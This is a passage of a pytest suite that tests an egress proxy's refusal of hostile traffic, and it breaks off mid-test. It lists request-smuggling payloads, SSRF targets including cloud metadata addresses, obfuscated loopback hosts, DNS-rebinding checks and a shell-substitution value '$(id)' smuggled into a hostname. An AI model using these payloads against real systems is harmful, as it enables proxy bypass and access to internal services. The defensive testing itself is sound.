"""SECURITY-CASES N01, N04–N11, N13, N16, N18 and K15 at the proxy: hostile clients, hostile servers, hostile names.

Every refusal stands beside its allowed twin, and what matters is counted at the destination: how often it was dialled
and which bytes it got.
"""

from __future__ import annotations

import base64
import contextlib
import json
import re
import socket
import ssl
import threading
from collections.abc import Callable
from typing import Any

import pytest
from outside import DEADLINE_S, NAME, Dns, Origin, Outside, drained, refused, rule, talk, tunnel

from runner.egress.shown import FIRST, HELD
from runner.wire import egress as wire

OTHER = "other.example.test"
KEY = "rnr-" + "k" * 32
CANARY = "rnr-" + "c" * 32
VALUE = b"sk-live-0123456789abcdef"
PADDING = "p" * 50


def key(*places: str, rules: tuple[str, ...] = ("api",)) -> wire.Injection:
    """A credential bound to the rule `api`."""
    return wire.Injection(name="key", placeholder=KEY, value=VALUE, rules=rules, places=places)


def sink(connection: socket.socket, origin: Origin) -> None:
    """Note everything that comes."""
    while data := connection.recv(65536):
        origin.received += data


def noting(outside: Outside, context: ssl.SSLContext | None = None) -> Origin:
    """A server that notes what it gets and says nothing."""
    made: list[Origin] = []
    made.append(outside.origin(lambda connection: sink(connection, made[0]), context))
    return made[0]


# --- N01, N09, N10: hostile requests ------------------------------------------------------------------------


def get(target: str = "http://{host}/", *lines: str, method: str = "GET", version: str = "HTTP/1.1") -> str:
    return "\r\n".join((f"{method} {target} {version}", "Host: {host}", *lines, "", ""))


def connect(where: str, host: str = "", *lines: str) -> str:
    return "\r\n".join((f"CONNECT {where} HTTP/1.1", f"Host: {host or where}", *lines, "", ""))


# `{host}` is the allowed name and port, `{name}` the name, `{port}` the port.
HOSTS = [
    *("{name}.:{port}.", "{name}..:{port}", ".{name}:{port}", "-{name}:{port}", "{name}:", "{name}:0", "{name}:65536"),
    *("{name}:{port}x", "{name}:+{port}", "{name}:0{port}", "{name}: {port}", "{name}:-1", "{name}:{port}:{port}"),
    *("user@{host}", "user:pass@{host}", "@{host}", "{host}@evil.test:1", "evil.test#@{host}", "evil.test\\@{host}"),
    *("evil.test?{host}", "{name}%2eevil.test:{port}", "{name}%00.evil.test:{port}", "{name}%0d%0a:{port}"),
    *("{name}_x:{port}", "{name}/:{port}", "[{name}]:{port}", "[::1%25lo]:{port}", "[::ffff:127.0.0.1:{port}"),
    *(
        "0x7f000001:{port}",
        "0x7f.1:{port}",
        "2130706433:{port}",
        "0177.0.0.1:{port}",
        "127.1:{port}",
        "127.0.0.1.:{port}",
    ),
    *("xn--zzzzzz99999.test:{port}", "a.xn--.test:{port}", "*.example.test:{port}", "{name},evil.test:{port}"),
    *("{name};evil.test:{port}", "{name}|x:{port}", "$(id).test:{port}", "{name}`:{port}", "<{name}>:{port}"),
    *("127.0.0.1:{port}", "[::1]:{port}", "[::ffff:7f00:1]:{port}", "[::ffff:127.0.0.1]:{port}", "localhost:{port}"),
    *(
        "169.254.169.254:80",
        "[fd00:ec2::254]:80",
        "0.0.0.0:{port}",
        "[::]:{port}",
        "10.0.0.1:{port}",
        "evil.test:{port}",
    ),
    *("sub.{name}:{port}", "x{name}:{port}", "{name}:1", "{name}:22"),
]
HOSTS_RAW = [
    "{name}\0:{port}",
    "{name}\0.evil.test:{port}",
    "{name}\t:{port}",
    "{name}\x0b:{port}",
    "{name}\x7f:{port}",
]
HEADS = [
    get(version="HTTP/1.0").replace("Host: {host}\r\n", "Transfer-Encoding: chunked\r\n"),
    get(version="HTTP/2.0"),
    get(version="HTTP/0.9"),
    get(version="HTTP/1.1 "),
    get(version="http/1.1"),
    "GET http://{host}/\r\n\r\n",
    "GET  http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "GET\thttp://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    " GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "\r\nGET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "get http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "GET http://{host}/ HTTP/1.1\nHost: {host}\n\n",
    "GET http://{host}/ HTTP/1.1\r\nHost: {host}\n\r\n",
    "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\n",
    "GET http://{host}/ HTTP/1.1\r\rHost: {host}\r\n\r\n",
    "GET http://{host}/ HTTP/1.1\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "GET * HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "GET //{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "GET {host} HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "GET http:/{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "GET http:///{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "GET http:\\\\{host}\\ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    *(get(f"{scheme}://{{host}}/") for scheme in ("https", "ftp", "file", "gopher", "ws", "javascript", "http+unix")),
    *(
        get("http://{host}" + path)
        for path in ("/#f", "/../x", "/a/%2e%2e/b", "/a//b", "/%00", "/%0d%0aX:y", "/%zz", "/\\x")
    ),
    *(get("http://{host}" + path) for path in ("/a/..%2fb", "/%c0%ae%c0%ae/", "/;/../x", "/%25%32%65", "?#", "/a?b#c")),
    *(get(method=method) for method in ("TRACE", "TRACK", "CONNEC\tT", "GE(T", "G" * 40, "Get", "G1")),
    get("http://{host}/", "Host: {host}"),
    get("http://{host}/", "host: evil.test"),
    get().replace("Host: {host}", "Host: evil.test"),
    get().replace("Host: {host}", "Host: {name}:1"),
    get().replace("Host: {host}", "Host: {host}, evil.test"),
    get().replace("Host: {host}", "Host: user@{host}"),
    get().replace("Host: {host}", "Host:"),
    get().replace("Host: {host}", "Host : {host}"),
    get().replace("Host: {host}", " Host: {host}"),
    get("http://{host}/", "Content-Length: 3", "Transfer-Encoding: chunked"),
    get("http://{host}/", "Transfer-Encoding: chunked", "Content-Length: 3"),
    get("http://{host}/", "Content-Length: 3", "Content-Length: 4"),
    get("http://{host}/", "Content-Length: 3", "Content-Length: 3"),
    get("http://{host}/", "Content-Length: 3, 4"),
    get("http://{host}/", "Content-Length: +3"),
    get("http://{host}/", "Content-Length: 0x3"),
    get("http://{host}/", "Content-Length: -1"),
    get("http://{host}/", "Content-Length: 99999999999999999999"),
    get("http://{host}/", "Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
    get("http://{host}/", "Transfer-Encoding: xchunked"),
    get("http://{host}/", "Transfer-Encoding: chunked, gzip"),
    get("http://{host}/", "Transfer-Encoding: gzip, chunked"),
    get("http://{host}/", "Transfer-Encoding : chunked"),
    get("http://{host}/", "Transfer-Encoding: \x0bchunked"),
    get("http://{host}/", "Transfer-Encoding:", " chunked"),
    get("http://{host}/", "X: y", " folded"),
    get("http://{host}/", "X: y\rZ: w"),
    get("http://{host}/", "X: \0"),
    get("http://{host}/", "X\0: y"),
    get("http://{host}/", "X y: z"),
    get("http://{host}/", ": z"),
    get("http://{host}/", "nothing"),
    get("http://{host}/", "Connection: host"),
    get("http://{host}/", "Connection: content-length", "Content-Length: 3"),
    get("http://{host}/", "Connection: upgrade", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
    get("http://{host}/", "Connection: upgrade, HTTP2-Settings", "Upgrade: h2c"),
    get("http://{host}/", "Connection: upgrade", "Upgrade: TLS/1.0"),
    get("http://{host}/", "Connection: upgrade", "Upgrade: websocket, h2c"),
    get("http://{host}/", "Upgrade: websocket"),
    get("http://{host}/", "Expect: the unexpected"),
    get("http://{host}/", *("X: y",) * 101),
    get("http://{host}/", "X: " + "y" * 40_000),
    get("http://{host}/" + "a" * 40_000),
    connect("{host}", "evil.test:443"),
    connect("{host}", "{host}", "Content-Length: 3"),
    connect("{host}", "{host}", "Transfer-Encoding: chunked"),
    connect("{host}", "{host}", "Connection: upgrade", "Upgrade: websocket"),
    connect("http://{host}/"),
    connect("/"),
    connect("{name}"),
    "\x05\x01\x00",
    "\x05\x01\x00\x03\x10api.example.test\0\x01\xbb",
    "\x04\x01\x01\xbb\x7f\x00\x00\x01\x00",
    "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00",
    "\x80\x2e\x01\x00\x02",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nGET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "\0" * 50,
    "A" * 50_000,
    "SSH-2.0-x\r\n",
]
HOSTILE = [
    *HEADS,
    *(get(f"http://{host}/").replace("Host: {host}", f"Host: {host}") for host in (*HOSTS, *HOSTS_RAW)),
    *(connect(host) for host in (*HOSTS, *HOSTS_RAW)),
]


def test_hostile_requests_are_many() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 141


def test_no_hostile_request_dials_and_none_stops_the_proxy(outside: Outside) -> None:
    """N01, N09, N10: each is answered 4xx or closed at once; a good request before and after each kind passes."""
    web = outside.web()
    port = outside.open(
        rule(port=web.port, protocol="http"), rule("tls", port=web.port), rule("t", port=web.port, protocol="tcp")
    )
    fields = {"host": f"{NAME}:{web.port}", "name": NAME, "port": str(web.port)}

    def filled(text: str) -> bytes:
        for name, value in fields.items():
            text = text.replace("{" + name + "}", value)
        return text.encode("latin-1")

    def good() -> None:
        before = web.dialled
        answer = talk(port, filled(get("http://{host}/", "Connection: close")))
        assert answer.startswith(b"HTTP/1.1 200 "), answer
        assert web.dialled == before + 1

    good()
    dialled = web.dialled
    for text in HOSTILE:
        answer = talk(port, filled(text), half_close=True)
        assert answer == b"" or 400 <= int(answer[9:12]) < 500, (text, answer[:200])
        assert web.dialled == dialled, text
    good()
    assert len(outside.gate.asked) == 2
    closed = outside.end()
    assert closed.requests >= 141
    assert closed.refused == closed.requests - 2
    assert len(outside.gate.of(wire.Refused)) == 128  # the rest are counted only


SMUGGLED = b"GET http://%b/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n"


@pytest.mark.parametrize(
    "first",
    [
        b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        b"POST http://%b/ HTTP/1.1\r\nHost: %b\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST http://%b/denied HTTP/1.1\r\nHost: %b\r\nContent-Length: 5\r\n\r\nhello",
        b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\nX : y\r\n\r\n",
    ],
)
def test_nothing_behind_a_denied_request_is_read(outside: Outside, first: bytes) -> None:
    """N10: the connection is closed; 0 bytes reach the destination."""
    origin = noting(outside)
    where = f"{NAME}:{origin.port}".encode()
    port = outside.open(rule(port=origin.port, protocol="http", methods=("GET",)))
    filled = first.replace(b"%b", where)
    answer = talk(port, filled + SMUGGLED.replace(b"%b", where))
    assert 400 <= int(answer[9:12]) < 500
    assert answer.count(b"HTTP/1.1 ") == 1
    assert (origin.dialled, bytes(origin.received)) == (0, b"")


def test_pipelined_requests_are_judged_one_by_one(outside: Outside) -> None:
    """The allowed twin of the case above, and a denied one in the middle."""
    web = outside.web()
    port = outside.open(rule(port=web.port, protocol="http", paths=("/good/*",)))
    where = f"{NAME}:{web.port}"

    def ask(path: str) -> bytes:
        return f"GET http://{where}{path} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode()

    answer = talk(port, ask("/good/1") + ask("/good/2") + ask("/bad") + ask("/good/3"))
    assert re.findall(rb"HTTP/1\.1 (\d+) ", answer) == [b"200", b"200", b"403"]
    assert [seen["target"] for seen in web.seen] == ["/good/1", "/good/2"]
    assert web.dialled == 1  # one connection serves both


CHUNKS = {
    "extension": b"3;a=b\r\nabc\r\n0\r\n\r\n",
    "trailer": b"3\r\nabc\r\n0\r\nX: y\r\n\r\n",
    "bare LF": b"3\nabc\r\n0\r\n\r\n",
    "long": b"3\r\nabcd\r\n0\r\n\r\n",
    "sign": b"+3\r\nabc\r\n0\r\n\r\n",
    "hidden request": b"3\r\nabc\r\n0\r\nGET /x HTTP/1.1\r\n\r\n",
}


@pytest.mark.parametrize("chunks", CHUNKS.values(), ids=CHUNKS)
def test_chunks_with_two_readings_never_become_a_whole_request(outside: Outside, chunks: bytes) -> None:
    origin = noting(outside)
    where = f"{NAME}:{origin.port}"
    port = outside.open(rule(port=origin.port, protocol="http"))
    head = f"POST http://{where}/ HTTP/1.1\r\nHost: {where}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    answer = talk(port, head + chunks)
    assert refused(answer)["code"] == "syntax"
    (told,) = outside.gate.of(wire.Refused)
    assert told.code == "syntax"
    assert not outside.gate.asked
    assert origin.dialled == 0


@pytest.mark.parametrize("chunks", [b"+3\r\nabc\r\n0\r\n\r\n", b"3;a=b\r\nabc\r\n0\r\n\r\n", b"3\r\nabcd\r\n0\r\n\r\n"])
def test_chunks_with_two_readings_behind_what_was_shown_end_the_request(outside: Outside, chunks: bytes) -> None:
    """Where the destination has the beginning already: it never becomes whole."""
    origin = noting(outside)
    where = f"{NAME}:{origin.port}"
    port = outside.open(rule(port=origin.port, protocol="http"))
    head = f"POST http://{where}/ HTTP/1.1\r\nHost: {where}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    first = b"x" * (FIRST + 2 * HELD)
    answer = talk(port, head + b"%x\r\n%b\r\n" % (len(first), first) + chunks)
    assert refused(answer)["code"] == "syntax"
    assert not origin.received.endswith(b"0\r\n\r\n")
    (ended,) = outside.gate.of(wire.Ended)
    assert ended.code == "syntax"


def test_good_chunks_are_framed_anew(outside: Outside) -> None:
    web = outside.web()
    where = f"{NAME}:{web.port}"
    port = outside.open(rule(port=web.port, protocol="http"))
    head = f"POST http://{where}/ HTTP/1.1\r\nHost: {where}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n"
    answer = talk(port, head.encode() + b"3\r\nabc\r\n00A\r\n0123456789\r\n0\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert web.seen[0]["body"] == "abc0123456789"


def test_what_is_for_the_proxy_goes_no_further(outside: Outside) -> None:
    web = outside.web()
    where = f"{NAME}:{web.port}"
    port = outside.open(rule(port=web.port, protocol="http"))
    lines = "Proxy-Authorization: Basic eDp5\r\nProxy-Connection: keep-alive\r\nTE: trailers\r\n"
    lines += "Connection: close, X-Hop\r\nX-Hop: 1"
    talk(port, f"GET http://{where}/ HTTP/1.1\r\nHost: {where}\r\n{lines}\r\nAccept: x/y\r\n\r\n".encode())
    assert web.seen[0]["headers"] == [["host", where], ["accept", "x/y"]]


# --- N04, N05, N06: names and addresses ---------------------------------------------------------------------


def test_a_name_that_changes_its_address_is_dialled_where_it_was_judged(
    make_outside: Callable[..., Outside], dns: Callable[..., Dns]
) -> None:
    """N04: 127.0.0.2 is opened and 127.0.0.1 is not. Each request looks up once, and dials nothing it did not judge."""
    server = dns(lambda number: ["127.0.0.2"] if number % 2 == 0 else ["127.0.0.1"])
    outside = make_outside(nameservers=(f"127.0.0.1:{server.port}",))
    web = outside.web()  # on 127.0.0.1: never to be dialled
    listener = socket.create_server(("127.0.0.2", web.port))
    name = "rebind.example.test"
    port = outside.open(rule(host=name, port=web.port, protocol="http", addresses=("127.0.0.2/32",)))
    ask = f"GET http://{name}:{web.port}/ HTTP/1.1\r\nHost: {name}:{web.port}\r\nConnection: close\r\n\r\n".encode()
    answers: list[bytes] = []
    with listener:

        def serve() -> None:
            for _ in range(25):
                connection, _peer = listener.accept()
                with connection:
                    connection.recv(65536)
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

        thread = threading.Thread(target=serve)
        thread.start()
        for _ in range(50):
            answers.append(talk(port, ask))
        thread.join()
    assert [answer[9:12] for answer in answers] == [b"200", b"403"] * 25
    assert web.dialled == 0
    assert server.asked == 50  # once a request
    assert {message.address for message in outside.gate.of(wire.Ended)} == {"127.0.0.2", ""}
    assert refused(answers[1])["part"] == "address"


def test_a_name_is_looked_up_only_after_it_is_allowed(
    make_outside: Callable[..., Outside], dns: Callable[..., Dns]
) -> None:
    """N03: whoever may not reach a name cannot tell it to anybody's name server, by any label of it."""
    server = dns(lambda _: ["127.0.0.1"])
    outside = make_outside(nameservers=(f"127.0.0.1:{server.port}",))
    web = outside.web()
    port = outside.open(
        rule(host="looked.example.test", port=web.port, protocol="http"),
        rule("tls", host="*.example.test", port=web.port, inspect=True),
    )
    for host in ("stolen.evil.test", "sub.looked.example.test", "looked.example.test.evil.test"):
        assert refused(ask(port, f"{host}:{web.port}"))["code"] == "egress"
        assert refused_or_dialled(port, f"{host}:{web.port}") == "egress"
    with tunnel(port, f"any.example.test:{web.port}"):  # nothing was asked for inside yet
        assert server.asked == 0
    outside.gate.decide = lambda _: wire.Answer(number=0, allowed=False)
    assert refused(ask(port, f"looked.example.test:{web.port}"))["code"] == "denied"
    assert server.asked == 0
    outside.gate.decide = lambda _: wire.Answer(number=0, allowed=True)
    assert ask(port, f"looked.example.test:{web.port}").startswith(b"HTTP/1.1 200 ")
    assert server.asked == 1


def test_a_name_without_an_address_or_an_answer_is_told(
    make_outside: Callable[..., Outside], dns: Callable[..., Dns]
) -> None:
    empty, many = dns(lambda _: []), dns(lambda number: [f"127.0.{number % 4}.{each}" for each in range(1, 90)])
    silent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    silent.bind(("127.0.0.1", 0))
    with silent:
        cases = (
            (empty.port, {"upstream"}),
            (many.port, {"upstream"}),
            (silent.getsockname()[1], {"timeout", "upstream"}),
        )
        for server, codes in cases:
            outside = make_outside(nameservers=(f"127.0.0.1:{server}",), connect_s=0.5)
            port = outside.open(rule(host="no.example.test", port=80, protocol="http"))
            found = refused(ask(port, "no.example.test"))
            assert found["code"] in codes
            assert found["part"] == "dns"
            assert outside.gate.of(wire.Ended)[0].address == ""


def test_the_next_address_is_tried(make_outside: Callable[..., Outside]) -> None:
    outside = make_outside(hosts={NAME: ("127.0.0.9", "127.0.0.1")})
    web = outside.web()
    port = outside.open(rule(port=web.port, protocol="http"))
    assert ask(port, f"{NAME}:{web.port}").startswith(b"HTTP/1.1 200 ")
    assert outside.gate.of(wire.Ended)[0].address == "127.0.0.1"


@pytest.mark.parametrize(
    "bad",
    [
        *(
            "127.0.0.1",
            "0.0.0.0",
            "10.1.2.3",
            "172.16.0.1",
            "192.168.1.1",
            "169.254.169.254",
            "100.64.0.1",
            "224.0.0.1",
        ),
        *("255.255.255.255", "192.0.2.9", "198.18.0.1", "203.0.113.9", "240.0.0.1", "168.63.129.16", "100.100.100.200"),
        *("::1", "::", "fe80::1", "fc00::1", "fd00:ec2::254", "ff02::1", "fec0::1", "::ffff:127.0.0.1", "::127.0.0.1"),
        *("64:ff9b::7f00:1", "64:ff9b:1::a00:1", "2002:7f00:1::", "2001:0:7f00:1::", "2001:db8::1", "100::1"),
    ],
)
def test_a_name_that_leads_inside_is_refused_whole(make_outside: Callable[..., Outside], bad: str) -> None:
    """N05: also where another of its addresses may be dialled. The rule that names the range is the allowed twin."""
    outside = make_outside(hosts={NAME: ("127.0.0.2", bad), OTHER: ("127.0.0.2",)})
    origin = noting(outside)
    rules = (
        rule(port=origin.port, protocol="http", addresses=("127.0.0.2/32",)),
        rule("twin", OTHER, port=origin.port, protocol="tcp", addresses=("127.0.0.2/32",)),
    )
    port = outside.open(*rules)
    answer = refused(
        talk(port, f"GET http://{NAME}:{origin.port}/ HTTP/1.1\r\nHost: {NAME}:{origin.port}\r\n\r\n".encode())
    )
    assert (answer["code"], answer["part"]) == ("egress", "address")
    assert origin.dialled == 0
    assert [message.part for message in outside.gate.of(wire.Refused)] == ["address"]
    assert outside.gate.of(wire.Ended)[0].code == "egress"
    twin = refused_or_dialled(port, f"{OTHER}:{origin.port}")
    assert twin == "upstream"  # it was dialled: nobody listens on 127.0.0.2


def refused_or_dialled(port: int, where: str) -> str:
    """What became of a CONNECT."""
    answer = talk(port, f"CONNECT {where} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode(), half_close=True)
    return "dialled" if answer.startswith(b"HTTP/1.1 200") else str(refused(answer)["code"])


def test_an_address_is_dialled_only_where_a_rule_names_it(outside: Outside) -> None:
    """N06."""
    origin = noting(outside)
    port = outside.open(rule(port=origin.port, protocol="tcp"))
    assert refused_or_dialled(port, f"127.0.0.1:{origin.port}") == "egress"
    assert origin.dialled == 0
    named = outside.open(rule(host="127.0.0.1", port=origin.port, protocol="tcp"), call="c2")
    assert refused_or_dialled(named, f"127.0.0.1:{origin.port}") == "dialled"
    assert origin.dialled == 1


def test_a_part_that_does_not_open_the_range_denies(outside: Outside) -> None:
    origin = noting(outside)
    closed = (rule(port=origin.port, protocol="tcp", addresses=()),)
    port = outside.open(rule(port=origin.port, protocol="tcp"), profile=closed)
    assert refused_or_dialled(port, f"{NAME}:{origin.port}") == "egress"
    assert origin.dialled == 0


# --- N07: one name ------------------------------------------------------------------------------------------


def shake(outside: Outside, port: int, where: str, name: str | None, context: ssl.SSLContext) -> str:
    """TLS through a tunnel: the protocol that was chosen, or why there is none."""
    sock = tunnel(port, where)
    try:
        with context.wrap_socket(sock, server_hostname=name) as tls:
            return tls.selected_alpn_protocol() or "none"
    except (ssl.SSLError, ConnectionError) as error:
        return type(error).__name__
    finally:
        sock.close()


@pytest.mark.parametrize("inspect", [False, True])
def test_tls_asks_for_the_tunnels_own_name(outside: Outside, inspect: bool) -> None:
    """N07: another SNI, none, or no TLS at all: closed, and not a byte reaches the destination."""
    web = outside.web(outside.tls(NAME, OTHER))
    origin = noting(outside)
    port = outside.open(rule(port=web.port, inspect=inspect), rule("bytes", port=origin.port, inspect=inspect))
    blind = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    blind.check_hostname, blind.verify_mode = False, ssl.CERT_NONE
    where = f"{NAME}:{web.port}"
    assert shake(outside, port, where, NAME, blind) in ("none", "http/1.1")
    for name in (OTHER, None, "API.example.test.evil.test", "127.0.0.1"):
        assert shake(outside, port, f"{NAME}:{origin.port}", name, blind) not in ("none", "http/1.1")
    with tunnel(port, f"{NAME}:{origin.port}") as sock:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        assert drained(sock) == b""
    outside.wait(lambda: not outside.proxy._connections)
    assert bytes(origin.received) == b""
    told = [*outside.gate.of(wire.Refused), *outside.gate.of(wire.Ended)]
    assert [message.code for message in told if message.code] == ["name"] * 5, told


def test_alpn_is_http_11_where_tls_ends_here(outside: Outside) -> None:
    web = outside.web(outside.tls())
    port = outside.open(rule(port=web.port, inspect=True))
    context = outside.client_tls()
    context.set_alpn_protocols(["h2", "http/1.1"])
    assert shake(outside, port, f"{NAME}:{web.port}", NAME, context) == "http/1.1"
    only = outside.client_tls()
    only.set_alpn_protocols(["h2"])
    assert shake(outside, port, f"{NAME}:{web.port}", NAME, only) == "none"


def inner(outside: Outside, port: int, where: str, data: bytes, name: str = NAME, sandbox: str = "s1") -> bytes:
    """Bytes through an inspected tunnel; the answer."""
    sock = tunnel(port, where)
    with outside.client_tls(sandbox).wrap_socket(sock, server_hostname=name) as tls:
        tls.settimeout(DEADLINE_S)
        tls.sendall(data)
        found = b""
        with contextlib.suppress(OSError):
            while part := tls.recv(65536):
                found += part
        return found


@pytest.mark.parametrize(
    "head",
    [
        "GET / HTTP/1.1\r\nHost: other.example.test:{port}\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n",
        "GET / HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.0\r\n\r\n",
        "GET https://api.example.test:{port}/ HTTP/1.1\r\nHost: api.example.test:{port}\r\n\r\n",
        "GET http://other.example.test/ HTTP/1.1\r\nHost: api.example.test:{port}\r\n\r\n",
        "CONNECT api.example.test:{port} HTTP/1.1\r\nHost: api.example.test:{port}\r\n\r\n",
        "OPTIONS * HTTP/1.1\r\nHost: api.example.test:{port}\r\n\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ],
)
def test_inner_requests_are_for_the_tunnels_own_host(outside: Outside, head: str) -> None:
    """N07: Host differs, or the target is none of a server."""
    web = outside.web(outside.tls(NAME, OTHER))
    port = outside.open(rule(port=web.port, inspect=True), rule("other", OTHER, port=web.port, inspect=True))
    where = f"{NAME}:{web.port}"
    answer = inner(outside, port, where, head.replace("{port}", str(web.port)).encode())
    assert refused(answer)["code"] == "syntax"
    assert web.dialled == 0
    good = inner(outside, port, where, f"GET /x HTTP/1.1\r\nHost: {where}\r\nConnection: close\r\n\r\n".encode())
    assert good.startswith(b"HTTP/1.1 200 ")
    assert web.seen[0]["target"] == "/x"


def test_each_inner_request_is_judged_and_told(outside: Outside) -> None:
    web = outside.web(outside.tls())
    where = f"{NAME}:{web.port}"
    port = outside.open(rule(port=web.port, inspect=True, methods=("GET",), paths=("/v1/*",)))
    ask = f"GET /v1/{{}}?q HTTP/1.1\r\nHost: {where}\r\n\r\n"
    denied = f"GET /v2/x HTTP/1.1\r\nHost: {where}\r\n\r\n"
    answer = inner(outside, port, where, (ask.format("a") + ask.format("b") + denied + ask.format("c")).encode())
    assert answer.count(b"HTTP/1.1 200 ") == 2
    assert [seen["target"] for seen in web.seen] == ["/v1/a?q", "/v1/b?q"]
    assert [(each.method, each.path, each.query, each.visibility) for each in outside.gate.asked] == [
        ("GET", "/v1/a", True, "full"),
        ("GET", "/v1/b", True, "full"),
    ]
    assert outside.gate.asked[0].rules == ("profile default/api", "tool fetch/api")
    (told,) = outside.gate.of(wire.Refused)
    assert (told.code, told.part, told.request.path) == ("egress", "profile default", "/v2/x")
    assert 'paths = ["/v2/x"]' in told.missing
    assert [message.status for message in outside.gate.of(wire.Ended)] == [200, 200]
    assert refused(b"HTTP/1.1 403" + answer.rpartition(b"HTTP/1.1 403")[2])["missing"] == told.missing


def test_a_second_hello_asks_for_the_same_name(outside: Outside) -> None:
    """A server that wants another key share makes the client say hello again: not to somebody else."""
    from runner.egress.hello import parse_hello

    hellos: list[bytes] = []
    for name in (NAME, OTHER):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        inward, outward = ssl.MemoryBIO(), ssl.MemoryBIO()
        with pytest.raises(ssl.SSLWantReadError):
            context.wrap_bio(inward, outward, server_hostname=name).do_handshake()
        hellos.append(outward.read())
    same, another = hellos
    assert parse_hello(another) is not None
    changed = b"\x14\x03\x03\0\1\1"
    for second, reaches in ((same, True), (another, False), (changed + same, True), (changed + another, False)):
        origin = noting(outside)
        call = f"c-{reaches}-{len(second)}"
        port = outside.open(rule(port=origin.port), call=call)
        with tunnel(port, f"{NAME}:{origin.port}") as sock:
            sock.sendall(same)
            outside.wait(lambda origin=origin: bytes(origin.received) == same)
            sock.sendall(second)
            sock.shutdown(socket.SHUT_WR)
            drained(sock)
        outside.wait(lambda: not outside.proxy._connections)
        outside.end(call)
        wanted = same + second if reaches else same
        outside.wait(lambda origin=origin, wanted=wanted: bytes(origin.received) == wanted)


@pytest.mark.parametrize("names", [(OTHER,), ("*.example.net",)])
def test_a_destination_with_anothers_certificate_is_not_spoken_to(outside: Outside, names: tuple[str, ...]) -> None:
    web, good = outside.web(outside.tls(*names)), outside.web(outside.tls(NAME))
    port = outside.open(rule(port=web.port, inspect=True), rule("good", port=good.port, inspect=True))
    ask = "GET / HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n"
    where, right = f"{NAME}:{web.port}", f"{NAME}:{good.port}"
    answer = refused(inner(outside, port, where, ask.format(where).encode()))
    assert (answer["code"], answer["status"]) == ("upstream", 502)
    assert web.seen == []
    assert inner(outside, port, right, ask.format(right).encode()).startswith(b"HTTP/1.1 200 ")


def test_an_authority_that_egress_does_not_know_is_not_believed(outside: Outside) -> None:
    import trustme

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert(NAME).configure_cert(context)
    web = outside.web(context)
    port = outside.open(rule(port=web.port, inspect=True))
    where = f"{NAME}:{web.port}"
    answer = refused(inner(outside, port, where, f"GET / HTTP/1.1\r\nHost: {where}\r\n\r\n".encode()))
    assert answer["code"] == "upstream"
    assert web.seen == []


def test_a_sandbox_does_not_believe_anothers_authority(outside: Outside) -> None:
    web = outside.web(outside.tls())
    port = outside.open(rule(port=web.port, inspect=True), sandbox="s1")
    where = f"{NAME}:{web.port}"
    with pytest.raises(ssl.SSLCertVerificationError):
        inner(outside, port, where, b"", sandbox="s2")
    ask = f"GET / HTTP/1.1\r\nHost: {where}\r\nConnection: close\r\n\r\n".encode()
    assert inner(outside, port, where, ask, sandbox="s1").startswith(b"HTTP/1.1 200 ")


# --- N08, N11: redirects and upgrades -----------------------------------------------------------------------


def answering(outside: Outside, answer: bytes, *, context: ssl.SSLContext | None = None, close: bool = True) -> Origin:
    """A server that reads one head and answers with these bytes."""
    made: list[Origin] = []

    def serve(connection: socket.socket) -> None:
        data = b""
        while b"\r\n\r\n" not in data:
            part = connection.recv(65536)
            if not part:
                return
            data += part
        made[0].received += data
        connection.sendall(answer)
        if not close:
            sink(connection, made[0])

    made.append(outside.origin(serve, context))
    return made[0]


def ask(port: int, where: str, *lines: str, path: str = "/") -> bytes:
    """A GET through the proxy; the whole answer."""
    text = "\r\n".join((f"GET http://{where}{path} HTTP/1.1", f"Host: {where}", *lines, "Connection: close", "", ""))
    return talk(port, text.encode())


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_redirects_are_not_followed(outside: Outside, status: int) -> None:
    """N08: the tool gets it as it is, and where it leads is judged anew."""
    inside = noting(outside)
    location = f"http://127.0.0.1:{inside.port}/"
    answer = f"HTTP/1.1 {status} Moved\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n".encode()
